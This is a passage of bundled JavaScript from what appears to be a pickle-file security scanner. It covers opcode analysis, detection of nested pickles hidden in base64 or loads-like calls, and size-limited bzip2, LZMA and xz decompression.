      for (const v of items) target.items.push(v);
      return;
    }
    if (target.k === "bytes" && target.bytearray) return;
    if (target.k === "tuple" || target.k === "frozenset" || target.k === "dict" || !this.isObject(target)) {
      throw new PickleError(`cannot ${method} to a ${target.k}`, this.opStart);
    }
    for (const v of items) this.markArguments(v);
    const t = renderValue(target, this);
    if (method === "extend") {
      this.statement(`${t}.extend(${renderValue({ k: "list", items }, this)})`);
    } else {
      for (const v of items) this.statement(`${t}.${method}(${renderValue(v, this)})`);
    }
  }
  setItems(target, items) {
    if (target.k === "dict") {
      for (const v of items) target.items.push(v);
      return;
    }
    if (target.k === "list") {
      for (let i2 = 0; i2 + 1 < items.length; i2 += 2) {
        const key = items[i2];
        if (key.k !== "int" || typeof key.v !== "number") continue;
        const at = key.v < 0 ? target.items.length + key.v : key.v;
        if (at >= 0 && at < target.items.length) target.items[at] = items[i2 + 1];
      }
      return;
    }
    if (target.k === "bytes" && target.bytearray) return;
    if (isContainer(target) || !this.isObject(target)) {
      throw new PickleError(`cannot set items on a ${target.k}`, this.opStart);
    }
    for (const v of items) this.markArguments(v);
    for (let i2 = 0; i2 + 1 < items.length; i2 += 2) {
      this.statement(`${renderValue(target, this)}[${renderValue(items[i2], this)}] = ${renderValue(items[i2 + 1], this)}`);
    }
  }
  /** Values whose methods are unknown to us: results of calls, globals, persistent objects, buffers. */
  isObject(v) {
    return v.k === "call" || v.k === "global" || v.k === "persid" || v.k === "buffer" || v.k === "unknown";
  }
  /** Marks every global reachable from a call's arguments as used by that call (bounded BFS). */
  markArguments(root) {
    if (root.k !== "global" && !isContainer(root)) return;
    const offset = this.opStart;
    const seen = /* @__PURE__ */ new Set();
    const queue = [root];
    let left = ARG_SCAN_PER_CALL;
    for (let qi = 0; qi < queue.length; qi++) {
      if (left-- <= 0 || this.argScanLeft-- <= 0) {
        this.t.argScanExhausted = true;
        return;
      }
      const v = queue[qi];
      if (v.k === "global") {
        if (this.t.importUsedAt[v.imp] === -1) this.t.importUsedAt[v.imp] = offset;
      } else if (isContainer(v)) {
        for (const item of v.items) {
          if ((item.k === "global" || isContainer(item)) && !seen.has(item)) {
            seen.add(item);
            queue.push(item);
          }
        }
      }
    }
  }
  nestedPickle(arg) {
    const inner = this.constantBytes(arg, 0);
    if (inner === null || inner.length === 0) return;
    const analysis = this.o.nested.analyze(inner);
    if (analysis !== void 0 && analysis.isPickle) this.a.nested.push({ offset: this.opStart, analysis });
  }
  /** Bytes a value evaluates to when it is a constant or a cheap decoding of one, else null. */
  constantBytes(v, depth) {
    if (v.k === "bytes") return v.v;
    if (v.k === "str") return latin1Bytes(v.v);
    if (v.k !== "call" || depth > 4) return null;
    const callee = this.a.calls[v.call].callee;
    const args2 = this.callArgs[v.call];
    if (args2.length === 0) return null;
    if (BYTES_WRAPPERS.has(callee) || callee === "_codecs.encode" || callee === "codecs.encode") {
      return this.constantBytes(args2[0], depth + 1);
    }
    if (BASE64_DECODERS.has(callee) || callee === "codecs.decode" && isBase64Codec(args2[1])) {
      const encoded = this.constantBytes(args2[0], depth + 1);
      return encoded === null ? null : decodeBase64(encoded);
    }
    return null;
  }
};
function isDottedName(s) {
  if (s.length === 0 || s.length > 512) return false;
  let partStart = true;
  for (let i2 = 0; i2 < s.length; i2++) {
    const c = s.charCodeAt(i2);
    if (c === 46) {
      if (partStart) return false;
      partStart = true;
      continue;
    }
    const letter = c >= 65 && c <= 90 || c >= 97 && c <= 122 || c === 95 || c >= 128;
    if (!letter && !(!partStart && c >= 48 && c <= 57)) return false;
    partStart = false;
  }
  return !partStart;
}
function isBase64Codec(v) {
  return v !== void 0 && v.k === "str" && (v.v === "base64" || v.v === "base_64" || v.v === "base-64");
}
function latin1Bytes(s) {
  const out2 = new Uint8Array(s.length);
  for (let i2 = 0; i2 < s.length; i2++) {
    const c = s.charCodeAt(i2);
    if (c > 255) return null;
    out2[i2] = c;
  }
  return out2;
}
function decodeBase64(encoded) {
  const out2 = new Uint8Array(Math.floor(encoded.length * 3 / 4) + 3);
  let acc = 0;
  let bits = 0;
  let n = 0;
  for (let i2 = 0; i2 < encoded.length; i2++) {
    const c = encoded[i2];
    let d;
    if (c >= 65 && c <= 90) d = c - 65;
    else if (c >= 97 && c <= 122) d = c - 71;
    else if (c >= 48 && c <= 57) d = c + 4;
    else if (c === 43 || c === 45) d = 62;
    else if (c === 47 || c === 95) d = 63;
    else if (c === 61) break;
    else if (c === 10 || c === 13 || c === 32) continue;
    else return null;
    acc = (acc << 6 | d) & 16777215;
    bits += 6;
    if (bits >= 8) {
      bits -= 8;
      out2[n++] = acc >> bits & 255;
    }
  }
  return out2.subarray(0, n);
}

// src/artifacts/pickle/sniff.ts
var PROTOCOL_0_1_STARTS = /* @__PURE__ */ new Set([
  OP.MARK,
  OP.EMPTY_LIST,
  OP.EMPTY_DICT,
  OP.EMPTY_TUPLE,
  OP.GLOBAL,
  OP.NONE,
  OP.INT,
  OP.LONG,
  OP.FLOAT,
  OP.STRING,
  OP.UNICODE,
  OP.BININT,
  OP.BININT1,
  OP.BININT2,
  OP.SHORT_BINSTRING,
  OP.BINSTRING,
  OP.BINUNICODE,
  OP.BINFLOAT
]);
var SNIFF_WINDOW = 64 * 1024;
var SNIFF_OPCODES = 4096;
var MIN_OPCODES_IN_WINDOW = 16;
var NO_NESTING = { isLoadsLike: () => false, analyze: () => void 0 };
function looksLikePickle(bytes) {
  if (bytes.length < 2) return false;
  const first = bytes[0];
  if (first === OP.PROTO) {
    return bytes[1] >= 2 && bytes[1] <= 5 && bytes.length >= 3 && OPCODE_NAMES[bytes[2]] !== void 0;
  }
  if (!PROTOCOL_0_1_STARTS.has(first)) return false;
  const windowed = bytes.length > SNIFF_WINDOW;
  const trace = runMachine(windowed ? bytes.subarray(0, SNIFF_WINDOW) : bytes, {
    limits: {
      maxOpcodes: SNIFF_OPCODES,
      maxStackDepth: 1e4,
      maxMemoEntries: 1e4,
      maxNesting: 0,
      maxDecompressedBytes: 0
    },
    budget: { opcodes: SNIFF_OPCODES },
    classArgHelpers: /* @__PURE__ */ new Set(),
    nested: NO_NESTING
  });
  const a = trace.analysis;
  if (a.streams > 0) return true;
  if (trace.stoppedBy === "limit") return a.opcodeCount >= MIN_OPCODES_IN_WINDOW;
  return windowed && trace.stoppedBy === "truncated" && a.opcodeCount >= MIN_OPCODES_IN_WINDOW;
}

// src/artifacts/pickle/index.ts
var DEFAULT_PICKLE_OPTIONS = {
  policy: "denylist",
  allowGlobals: [],
  limits: {
    maxOpcodes: 5e6,
    maxStackDepth: 1e5,
    maxMemoEntries: 1e6,
    maxNesting: 32,
    maxDecompressedBytes: 1024 * 1024 * 1024
  }
};
var LOADS_LIKE = /* @__PURE__ */ new Set([
  "pickle.loads",
  "pickle._loads",
  "_pickle.loads",
  "dill.loads",
  "dill._dill.loads",
  "cloudpickle.loads",
  "cloudpickle.cloudpickle.loads",
  "joblib.numpy_pickle.loads",
  "numpy.loads",
  "numpy.core.numeric.loads",
  "pandas.compat.pickle_compat.loads",
  "torch.load",
  "torch.serialization.load",
  "torch.storage._load_from_bytes"
]);
function analyzePickle(bytes, options) {
  const resolved = {
    policy: options?.policy ?? DEFAULT_PICKLE_OPTIONS.policy,
    allowGlobals: options?.allowGlobals ?? DEFAULT_PICKLE_OPTIONS.allowGlobals,
    limits: { ...DEFAULT_PICKLE_OPTIONS.limits, ...options?.limits }
  };
  return analyzeAt(bytes, resolved, 0, { opcodes: resolved.limits.maxOpcodes });
}
function analyzeAt(bytes, options, depth, budget) {
  const nested = {
    isLoadsLike: (callee) => LOADS_LIKE.has(callee),
    analyze: (inner) => depth + 1 > options.limits.maxNesting ? nestingLimitReached(inner) : analyzeAt(inner, options, depth + 1, budget)
  };
  const trace = runMachine(bytes, { limits: options.limits, budget, classArgHelpers: CLASS_ARG_HELPERS, nested });
  const a = trace.analysis;
  a.issues = a.isPickle ? judge(trace, options) : [];
  return a;
}
function nestingLimitReached(bytes) {
  if (!looksLikePickle(bytes)) return void 0;
  return {
    isPickle: true,
    protocol: null,
    streams: 0,
    opcodeCount: 0,
    bytesConsumed: 0,
    imports: [],
    calls: [],
    persistentIds: [],
    issues: [
      {
        kind: "nested-pickle",
        severity: "high",
        message: "Pickles are nested deeper than the nesting limit; the innermost one was not inspected"
      }
    ],
    nested: [],
    error: { message: "nesting limit reached", offset: 0 }
  };
}

// src/artifacts/containers/bzip2.ts
var LimitReached = class extends Error {
};
var CorruptData = class extends Error {
};
var BitReader = class {
  constructor(input) {
    this.input = input;
  }
  input;
  position = 0;
  bitBuffer = 0;
  bitCount = 0;
  bits(count) {
    if (count > 24) return this.bits(count - 24) * 16777216 + this.bits(24);
    while (this.bitCount < count) {
      if (this.position >= this.input.length) throw new CorruptData("bzip2 data is truncated");
      this.bitBuffer = (this.bitBuffer & (1 << this.bitCount) - 1) << 8 | this.input[this.position++];
      this.bitCount += 8;
    }
    this.bitCount -= count;
    return this.bitBuffer >>> this.bitCount & (1 << count) - 1;
  }
  bit() {
    return this.bits(1);
  }
  alignToByte() {
    this.bitCount = 0;
  }
  get atEnd() {
    return this.position >= this.input.length && this.bitCount === 0;
  }
  peekBytes(count) {
    return this.input.subarray(this.position, this.position + count);
  }
};
var Output = class {
  constructor(max, initial) {
    this.max = max;
    this.bytes = new Uint8Array(Math.max(16, Math.min(initial, max)));
  }
  max;
  bytes;
  length = 0;
  put(byte) {
    if (this.length >= this.max) throw new LimitReached();
    if (this.length === this.bytes.length) {
      const next = new Uint8Array(Math.min(this.max, this.bytes.length * 2));
      next.set(this.bytes);
      this.bytes = next;
    }
    this.bytes[this.length++] = byte;
  }
};
var BLOCK_MAGIC = 54156738319193;
var END_MAGIC = 25779555029136;
var MAX_GROUPS = 6;
var GROUP_SIZE = 50;
var MAX_CODE_LENGTH = 20;
function buildTable(lengths, alphaSize) {
  let minLength = 32;
  let maxLength = 0;
  for (let i2 = 0; i2 < alphaSize; i2++) {
    minLength = Math.min(minLength, lengths[i2]);
    maxLength = Math.max(maxLength, lengths[i2]);
  }
  const perm = new Int32Array(alphaSize);
  let p = 0;
  for (let length = minLength; length <= maxLength; length++) {
    for (let s = 0; s < alphaSize; s++) if (lengths[s] === length) perm[p++] = s;
  }
  const base = new Int32Array(MAX_CODE_LENGTH + 2);
  const limit = new Int32Array(MAX_CODE_LENGTH + 2).fill(-1);
  for (let i2 = 0; i2 < alphaSize; i2++) base[lengths[i2] + 1]++;
  for (let i2 = 1; i2 < base.length; i2++) base[i2] += base[i2 - 1];
  let code3 = 0;
  for (let length = minLength; length <= maxLength; length++) {
    code3 += base[length + 1] - base[length];
    limit[length] = code3 - 1;
    code3 <<= 1;
  }
  for (let length = minLength + 1; length <= maxLength; length++) {
    base[length] = (limit[length - 1] + 1 << 1) - base[length];
  }
  return { limit, base, perm, minLength };
}
function decodeSymbol(reader, table) {
  let length = table.minLength;
  let code3 = reader.bits(length);
  while (length <= MAX_CODE_LENGTH) {
    if (code3 <= table.limit[length]) {
      const index = code3 - table.base[length];
      if (index < 0 || index >= table.perm.length) throw new CorruptData("bzip2 Huffman code out of range");
      return table.perm[index];
    }
    code3 = code3 * 2 + reader.bit();
    length++;
  }
  throw new CorruptData("bzip2 Huffman code is invalid");
}
function decodeBlock(reader, blockSizeMax, out2) {
  reader.bits(32);
  if (reader.bit()) throw new CorruptData("randomised bzip2 blocks are not supported");
  const origPtr = reader.bits(24);
  const used = [];
  const groupsUsed = reader.bits(16);
  for (let i2 = 0; i2 < 16; i2++) {
    if (groupsUsed & 32768 >>> i2) {
      const symbols = reader.bits(16);
      for (let j = 0; j < 16; j++) if (symbols & 32768 >>> j) used.push(i2 * 16 + j);
    }
  }
  if (used.length === 0) throw new CorruptData("bzip2 block uses no symbols");
  const alphaSize = used.length + 2;
  const groups2 = reader.bits(3);
  if (groups2 < 2 || groups2 > MAX_GROUPS) throw new CorruptData("bzip2 block has an invalid number of tables");
  const selectorCount = reader.bits(15);
  if (selectorCount === 0) throw new CorruptData("bzip2 block has no selectors");
  const mtfGroups = Array.from({ length: groups2 }, (_, i2) => i2);
  const selectors = new Uint8Array(selectorCount);
  for (let i2 = 0; i2 < selectorCount; i2++) {
    let j = 0;
    while (reader.bit()) {
      j++;
      if (j >= groups2) throw new CorruptData("bzip2 selector out of range");
    }
    const group2 = mtfGroups[j];
    mtfGroups.splice(j, 1);
    mtfGroups.unshift(group2);
    selectors[i2] = group2;
  }
  const tables = [];
  for (let t = 0; t < groups2; t++) {
    const lengths = new Uint8Array(alphaSize);
    let length = reader.bits(5);
    for (let s = 0; s < alphaSize; s++) {
      for (; ; ) {
        if (length < 1 || length > MAX_CODE_LENGTH) throw new CorruptData("bzip2 code length out of range");
        if (!reader.bit()) break;
        length += reader.bit() ? -1 : 1;
      }
      lengths[s] = length;
    }
    tables.push(buildTable(lengths, alphaSize));
  }
  const mtf = Uint8Array.from(used);
  const counts = new Int32Array(256);
  const tt = new Uint32Array(blockSizeMax);
  const endOfBlock = alphaSize - 1;
  let count = 0;
  let run3 = 0;
  let runWeight = 1;
  let selector = 0;
  let groupLeft = 0;
  let table = tables[0];
  for (; ; ) {
    if (groupLeft === 0) {
      if (selector >= selectorCount) throw new CorruptData("bzip2 block ran out of selectors");
      table = tables[selectors[selector++]];
      groupLeft = GROUP_SIZE;
    }
    groupLeft--;
    const symbol = decodeSymbol(reader, table);
    if (symbol <= 1) {
      run3 += (symbol + 1) * runWeight;
      runWeight *= 2;
      if (run3 > blockSizeMax) throw new CorruptData("bzip2 run exceeds the block size");
      continue;
    }
    if (run3 > 0) {
      if (count + run3 > blockSizeMax) throw new CorruptData("bzip2 block exceeds its size");
      const byte2 = mtf[0];
      counts[byte2] += run3;
      for (; run3 > 0; run3--) tt[count++] = byte2;
      runWeight = 1;
    }
    if (symbol === endOfBlock) break;
    if (count >= blockSizeMax) throw new CorruptData("bzip2 block exceeds its size");
    const index = symbol - 1;
    const byte = mtf[index];
    mtf.copyWithin(1, 0, index);
    mtf[0] = byte;
    counts[byte]++;
    tt[count++] = byte;
  }
  if (origPtr >= count) throw new CorruptData("bzip2 BWT origin out of range");
  const starts = new Int32Array(256);
  for (let i2 = 0, sum = 0; i2 < 256; i2++) {
    starts[i2] = sum;
    sum += counts[i2];
  }
  for (let i2 = 0; i2 < count; i2++) {
    const byte = tt[i2] & 255;
    tt[starts[byte]++] |= i2 << 8;
  }
  let position = tt[origPtr] >>> 8;
  let previous = -1;
  let repeat = 0;
  for (let i2 = 0; i2 < count; i2++) {
    const entry = tt[position];
    const byte = entry & 255;
    position = entry >>> 8;
    if (repeat === 4) {
      for (let k = 0; k < byte; k++) out2.put(previous);
      repeat = 0;
      previous = -1;
      continue;
    }
    if (byte === previous) repeat++;
    else {
      repeat = 1;
      previous = byte;
    }
    out2.put(byte);
  }
}
function decodeBzip2(input, maxOutput) {
  const out2 = new Output(maxOutput, input.length * 4);
  const reader = new BitReader(input);
  try {
    for (let stream = 0; ; stream++) {
      if (reader.bits(24) !== 4348520) throw new CorruptData("not a bzip2 stream");
      const level = reader.bits(8) - 48;
      if (level < 1 || level > 9) throw new CorruptData("invalid bzip2 block size");
      for (; ; ) {
        const magic = reader.bits(48);
        if (magic === END_MAGIC) {
          reader.bits(32);
          break;
        }
        if (magic !== BLOCK_MAGIC) throw new CorruptData("invalid bzip2 block header");
        decodeBlock(reader, level * 1e5, out2);
      }
      reader.alignToByte();
      const next = reader.peekBytes(3);
      if (reader.atEnd || !(next[0] === 66 && next[1] === 90 && next[2] === 104)) break;
    }
    return { bytes: out2.bytes.subarray(0, out2.length), limitReached: false };
  } catch (error) {
    const bytes = out2.bytes.subarray(0, out2.length);
    if (error instanceof LimitReached) return { bytes, limitReached: true };
    if (error instanceof CorruptData) return { bytes, limitReached: false, error: error.message };
    throw error;
  }
}

// src/artifacts/containers/lzma.ts
var LimitReached2 = class extends Error {
};
var CorruptData2 = class extends Error {
};
var OutputWindow = class {
  constructor(max, initial) {
    this.max = max;
    this.bytes = new Uint8Array(Math.max(16, Math.min(initial, max)));
  }
  max;
  bytes;
  length = 0;
  /** Start of the current dictionary (LZMA2 dictionary resets): matches may not reach before it. */
  dictStart = 0;
  put(byte) {
    if (this.length >= this.max) throw new LimitReached2();
    if (this.length === this.bytes.length) this.grow(this.length + 1);
    this.bytes[this.length++] = byte;
  }
  putBytes(chunk) {
    for (const byte of chunk) this.put(byte);
  }
  /** Byte `distance` positions back (1 = the last byte written). */
  back(distance) {
    return this.bytes[this.length - distance];
  }
  canReach(distance) {
    return distance <= this.length - this.dictStart;
  }
  grow(need) {
    const next = new Uint8Array(Math.min(this.max, Math.max(need, this.bytes.length * 2)));
    next.set(this.bytes.subarray(0, this.length));
    this.bytes = next;
  }
};
var RangeDecoder = class {
  constructor(input, position, end) {
    this.input = input;
    this.position = position;
    this.end = end;
    if (this.next() !== 0) throw new CorruptData2("range coder does not start with 0");
    for (let i2 = 0; i2 < 4; i2++) this.code = this.code * 256 + this.next();
    if (this.code === this.range) throw new CorruptData2("range coder initial code is invalid");
  }
  input;
  position;
  end;
  range = 4294967295;
  code = 0;
  next() {
    if (this.position >= this.end) throw new CorruptData2("compressed data is truncated");
    return this.input[this.position++];
  }
  normalize() {
    if (this.range < 16777216) {
      this.range *= 256;
      this.code = this.code * 256 + this.next();
    }
  }
  finishedOk() {
    return this.code === 0;
  }
  bit(probs, index) {
    const prob = probs[index];
    const bound = (this.range >>> 11) * prob;
    let result2;
    if (this.code < bound) {
      this.range = bound;
      probs[index] = prob + (2048 - prob >>> 5);
      result2 = 0;
    } else {
      this.range -= bound;
      this.code -= bound;
      probs[index] = prob - (prob >>> 5);
      result2 = 1;
    }
    this.normalize();
    return result2;
  }
  direct(count) {
    let result2 = 0;
    for (let i2 = 0; i2 < count; i2++) {
      this.range = Math.floor(this.range / 2);
      let bit = 0;
      if (this.code >= this.range) {
        this.code -= this.range;
        bit = 1;
      }
      result2 = result2 * 2 + bit;
      this.normalize();
    }
    return result2;
  }
  tree(probs, offset, bits) {
    let m = 1;
    for (let i2 = 0; i2 < bits; i2++) m = m * 2 + this.bit(probs, offset + m);
    return m - (1 << bits);
  }
  reverseTree(probs, offset, bits) {
    let m = 1;
    let symbol = 0;
    for (let i2 = 0; i2 < bits; i2++) {
      const bit = this.bit(probs, offset + m);
      m = m * 2 + bit;
      symbol |= bit << i2;
    }
    return symbol;
  }
};
var STATES = 12;
var POS_STATES_MAX = 16;
var END_POS_MODEL_INDEX = 14;
var FULL_DISTANCES = 128;
var LengthDecoder = class {
  probs = new Uint16Array(2 + POS_STATES_MAX * 8 * 2 + 256).fill(1024);
  decode(rc, posState) {
    if (rc.bit(this.probs, 0) === 0) return rc.tree(this.probs, 2 + posState * 8, 3);
    if (rc.bit(this.probs, 1) === 0) return 8 + rc.tree(this.probs, 2 + POS_STATES_MAX * 8 + posState * 8, 3);
    return 16 + rc.tree(this.probs, 2 + POS_STATES_MAX * 16, 8);
  }
};
function parseProperties(byte) {
  if (byte >= 9 * 5 * 5) throw new CorruptData2("invalid LZMA properties byte");
  return { lc: byte % 9, lp: Math.floor(byte / 9) % 5, pb: Math.floor(byte / 45) };
}
var LzmaState = class {
  constructor(props, dictSize) {
    this.props = props;
    this.dictSize = dictSize;
    this.reset();
  }
  props;
  dictSize;
  literal;
  isMatch = new Uint16Array(STATES * POS_STATES_MAX);
  isRep = new Uint16Array(STATES);
  isRepG0 = new Uint16Array(STATES);
  isRepG1 = new Uint16Array(STATES);
  isRepG2 = new Uint16Array(STATES);
  isRep0Long = new Uint16Array(STATES * POS_STATES_MAX);
  posSlot = new Uint16Array(4 * 64);
  posDecoders = new Uint16Array(1 + FULL_DISTANCES - END_POS_MODEL_INDEX);
  align = new Uint16Array(16);
  lengths = new LengthDecoder();
  repLengths = new LengthDecoder();
  state = 0;
  reps = [0, 0, 0, 0];
  setProperties(props) {
    this.props = props;
  }
  reset() {
    this.literal = new Uint16Array(768 << this.props.lc + this.props.lp).fill(1024);
    for (const probs of [this.isMatch, this.isRep, this.isRepG0, this.isRepG1, this.isRepG2, this.isRep0Long, this.posSlot, this.posDecoders, this.align]) {
      probs.fill(1024);
    }
    this.lengths = new LengthDecoder();
    this.repLengths = new LengthDecoder();
    this.state = 0;
    this.reps = [0, 0, 0, 0];
  }
  /**
   * Decodes until `size` bytes were produced (when given) or the end marker. Returns whether the end marker
   * was seen.
   */
  decode(rc, out2, size) {
    const { lc, lp, pb } = this.props;
    const pbMask = (1 << pb) - 1;
    const lpMask = (1 << lp) - 1;
    let remaining = size ?? Number.POSITIVE_INFINITY;
    for (; ; ) {
      if (remaining === 0) return false;
      const posState = out2.length & pbMask;
      if (rc.bit(this.isMatch, (this.state << 4) + posState) === 0) {
        const prev = out2.length > out2.dictStart ? out2.back(1) : 0;
        const base = 768 * (((out2.length & lpMask) << lc) + (prev >>> 8 - lc));
        let symbol = 1;
        if (this.state >= 7) {
          let matchByte = out2.back(this.reps[0] + 1);
          while (symbol < 256) {
            const matchBit = matchByte >>> 7 & 1;
            matchByte <<= 1;
            const bit = rc.bit(this.literal, base + (1 + matchBit << 8) + symbol);
            symbol = symbol << 1 | bit;
            if (matchBit !== bit) break;
          }
        }
        while (symbol < 256) symbol = symbol << 1 | rc.bit(this.literal, base + symbol);
        out2.put(symbol - 256);
        this.state = this.state < 4 ? 0 : this.state < 10 ? this.state - 3 : this.state - 6;
        remaining--;
        continue;
      }
      let length;
      if (rc.bit(this.isRep, this.state) !== 0) {
        if (out2.length === out2.dictStart) throw new CorruptData2("repeated match before any data");
        if (rc.bit(this.isRepG0, this.state) === 0) {
          if (rc.bit(this.isRep0Long, (this.state << 4) + posState) === 0) {
            this.state = this.state < 7 ? 9 : 11;
            out2.put(out2.back(this.reps[0] + 1));
            remaining--;
            continue;
          }
        } else {
          let distance2;
          if (rc.bit(this.isRepG1, this.state) === 0) {
            distance2 = this.reps[1];
          } else {
            if (rc.bit(this.isRepG2, this.state) === 0) {
              distance2 = this.reps[2];
            } else {
              distance2 = this.reps[3];
              this.reps[3] = this.reps[2];
            }
            this.reps[2] = this.reps[1];
          }
          this.reps[1] = this.reps[0];
          this.reps[0] = distance2;
        }
        length = this.repLengths.decode(rc, posState);
        this.state = this.state < 7 ? 8 : 11;
      } else {
        this.reps[3] = this.reps[2];
        this.reps[2] = this.reps[1];
        this.reps[1] = this.reps[0];
        length = this.lengths.decode(rc, posState);
        this.state = this.state < 7 ? 7 : 10;
        const distance2 = this.decodeDistance(rc, length);
        if (distance2 === 4294967295) {
          if (!rc.finishedOk()) throw new CorruptData2("end marker with trailing range coder state");
          return true;
        }
        this.reps[0] = distance2;
      }
      length += 2;
      const distance = this.reps[0] + 1;
      if (distance > this.dictSize + 1 || !out2.canReach(distance)) throw new CorruptData2("match distance beyond the dictionary");
      if (length > remaining) throw new CorruptData2("match runs past the declared size");
      for (let i2 = 0; i2 < length; i2++) out2.put(out2.back(distance));
      remaining -= length;
    }
  }
  decodeDistance(rc, length) {
    const lenState = Math.min(length, 3);
    const slot = rc.tree(this.posSlot, lenState * 64, 6);
    if (slot < 4) return slot;
    const directBits = (slot >>> 1) - 1;
    let distance = (2 | slot & 1) * 2 ** directBits;
    if (slot < END_POS_MODEL_INDEX) {
      distance += rc.reverseTree(this.posDecoders, distance - slot - 1, directBits);
    } else {
      distance += rc.direct(directBits - 4) * 16;
      distance += rc.reverseTree(this.align, 0, 4);
    }
    return distance;
  }
};
function run2(decode, maxOutput, sizeHint) {
  const out2 = new OutputWindow(maxOutput, sizeHint);
  try {
    decode(out2);
    return { bytes: out2.bytes.subarray(0, out2.length), limitReached: false };
  } catch (error) {
    const bytes = out2.bytes.subarray(0, out2.length);
    if (error instanceof LimitReached2) return { bytes, limitReached: true };
    if (error instanceof CorruptData2) return { bytes, limitReached: false, error: error.message };
    throw error;
  }
}
function decodeLzmaAlone(input, maxOutput) {
  return run2(
    (out2) => {
      if (input.length < 13) throw new CorruptData2("lzma header is truncated");
      const props = parseProperties(input[0]);
      const dictSize = Math.max(4096, (input[1] | input[2] << 8 | input[3] << 16 | input[4] << 24) >>> 0);
      const sizeKnown = !input.subarray(5, 13).every((b) => b === 255);
      let size = 0;
      for (let i2 = 12; i2 >= 5; i2--) size = size * 256 + input[i2];
      const rc = new RangeDecoder(input, 13, input.length);
      new LzmaState(props, dictSize).decode(rc, out2, sizeKnown ? size : null);
    },
    maxOutput,
    input.length * 4
  );
}
function lzma2Dictionary(byte) {
  if (byte > 40) throw new CorruptData2("invalid LZMA2 dictionary size");
  if (byte === 40) return 4294967295;
  return (2 | byte & 1) * 2 ** (Math.floor(byte / 2) + 11);
}
function decodeLzma2(input, start2, dictSize, out2) {
  let at = start2;
  let state = null;
  const need = (n) => {
    if (at + n > input.length) throw new CorruptData2("LZMA2 data is truncated");
  };
  for (; ; ) {
    need(1);
    const control = input[at++];
    if (control === 0) return at;
    if (control === 1 || control === 2) {
      need(2);
      const size = (input[at] << 8 | input[at + 1]) + 1;
      at += 2;
      need(size);
      if (control === 1) out2.dictStart = out2.length;
      out2.putBytes(input.subarray(at, at + size));
      at += size;
      continue;
    }
    if (control < 128) throw new CorruptData2(`invalid LZMA2 control byte 0x${control.toString(16)}`);
    need(4);
    const unpacked = (control & 31) * 65536 + (input[at] << 8 | input[at + 1]) + 1;
    const packed = (input[at + 2] << 8 | input[at + 3]) + 1;
    at += 4;
    const reset = control >>> 5 & 3;
    if (reset === 3) out2.dictStart = out2.length;
    if (reset >= 2) {
      need(1);
      const props = parseProperties(input[at++]);
      if (props.lc + props.lp > 4) throw new CorruptData2("LZMA2 lc + lp exceeds 4");
      if (state) state.setProperties(props);
      else state = new LzmaState(props, dictSize);
    }
    if (!state) throw new CorruptData2("LZMA2 chunk without properties");
    if (reset >= 1) state.reset();
    need(packed);
    const rc = new RangeDecoder(input, at, at + packed);
    state.decode(rc, out2, unpacked);
    at += packed;
  }
}
function readVarint(input, at) {
  let value = 0;
  for (let i2 = 0; i2 < 9; i2++) {
    if (at + i2 >= input.length) throw new CorruptData2("xz header is truncated");
    const byte = input[at + i2];
    value += (byte & 127) * 2 ** (7 * i2);
    if ((byte & 128) === 0) return [value, at + i2 + 1];
  }
  throw new CorruptData2("xz varint is too long");
}
var CHECK_SIZES = [0, 4, 4, 4, 8, 8, 8, 16, 16, 16, 32, 32, 32, 64, 64, 64];
function decodeXz(input, maxOutput) {
  return run2(
    (out2) => {
      if (input.length < 12) throw new CorruptData2("xz header is truncated");
      const checkSize = CHECK_SIZES[input[7] & 15];
      let at = 12;
      for (; ; ) {
        if (at >= input.length) throw new CorruptData2("xz stream is truncated");
        const headerByte = input[at];
        if (headerByte === 0) return;
        const headerSize = (headerByte + 1) * 4;
        if (at + headerSize > input.length) throw new CorruptData2("xz block header is truncated");
        const flags2 = input[at + 1];
        let p = at + 2;
        if (flags2 & 64) p = readVarint(input, p)[1];
        if (flags2 & 128) p = readVarint(input, p)[1];
        const filters = (flags2 & 3) + 1;
        let dictSize = 0;
        for (let i2 = 0; i2 < filters; i2++) {
          const [id, afterId] = readVarint(input, p);
          const [propsSize, afterSize] = readVarint(input, afterId);
          if (id !== 33 || i2 !== filters - 1) throw new CorruptData2(`xz filter 0x${id.toString(16)} is not supported`);
          if (propsSize !== 1) throw new CorruptData2("xz LZMA2 properties are malformed");
          dictSize = lzma2Dictionary(input[afterSize]);
          p = afterSize + propsSize;
        }
        const dataEnd = decodeLzma2(input, at + headerSize, dictSize, out2);
        at = dataEnd + (4 - dataEnd % 4) % 4 + checkSize;
      }
    },
    maxOutput,
    input.length * 4
  );
}

// src/artifacts/containers/decompress.ts
var INPUT_CHUNK = 1 << 20;
var SNIFF_INPUT = 4 << 20;
var syncDecoders = /* @__PURE__ */ new Map([
  ["bz2", decodeBzip2],
  ["xz", decodeXz],
  ["lzma", decodeLzmaAlone]
]);
async function decompress(format, input, options) {
  const cap = Math.max(0, Math.min(options.limit, options.want ?? Number.POSITIVE_INFINITY));
  const syncDecoder = syncDecoders.get(format);
  if (syncDecoder) {
    if (options.want !== void 0 && input.size > SNIFF_INPUT) {
      const partial = syncDecoder(await readRange(input, 0, SNIFF_INPUT), cap);
      if (partial.bytes.length >= cap) return { bytes: partial.bytes, limitReached: partial.limitReached && hitsLimit(options) };
    }
    if (input.size > options.limit) {
      return { bytes: new Uint8Array(0), limitReached: true, error: `compressed ${format} data larger than the decompression limit` };
    }
    const result2 = syncDecoder(await readRange(input, 0, input.size), cap);
    return { ...result2, limitReached: result2.limitReached && hitsLimit(options) };
  }
  return streamDecompress(format === "zlib" ? "deflate" : format, input, cap, options);
}
async function streamDecompress(format, input, cap, options) {
  const stream = new DecompressionStream(format);
  const writer = stream.writable.getWriter();
  const reader = stream.readable.getReader();
  let stopped = false;
  let feedError;
  const feeding = (async () => {
    try {
      for (let at = 0; at < input.size && !stopped; at += INPUT_CHUNK) {
        const chunk = await readRange(input, at, INPUT_CHUNK);
        if (chunk.length === 0) break;
        await writer.write(chunk);
      }
      if (!stopped) await writer.close();
    } catch (error2) {
      feedError = error2;
    }
  })();
  const chunks = [];
  let total = 0;
  let error;
  let limitReached = false;
  try {
    for (; ; ) {
      const { value, done } = await reader.read();
      if (done) break;
      chunks.push(value);
      total += value.length;
      if (total >= cap) {
        limitReached = hitsLimit(options);
        break;
      }
    }
  } catch (caught) {
    error = describe(caught);
  }
  stopped = true;
  await reader.cancel().catch(() => void 0);
  await writer.abort().catch(() => void 0);
  await feeding;
  if (!error && feedError && total < cap) error = describe(feedError);
  return { bytes: concatBytes(chunks, Math.min(total, cap)), limitReached, ...error ? { error } : {} };
}
function hitsLimit(options) {
  return options.want === void 0 || options.want >= options.limit;
}
function describe(error) {
